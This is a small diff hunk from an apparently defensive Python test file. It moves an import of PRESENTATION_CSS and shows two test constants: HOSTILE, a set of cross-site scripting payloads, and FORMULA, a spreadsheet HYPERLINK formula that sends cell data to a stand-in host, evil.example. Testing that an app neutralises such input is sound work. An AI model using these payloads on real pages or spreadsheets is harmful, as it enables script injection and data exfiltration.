@@ -17,7 +17,7 @@ from lib.store.db import open_store
 from tests.app_support import copy_store, demo_store_file
 from tests.conftest import store_fingerprint
 from tests.test_pages import open_page
-from ui import PRESENTATION_CSS
+from ui.modes import PRESENTATION_CSS
 
 HOSTILE = '<script>alert("x")</script><img src=x onerror=alert(1)><b>bold</b> & [link](javascript:alert(2))'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
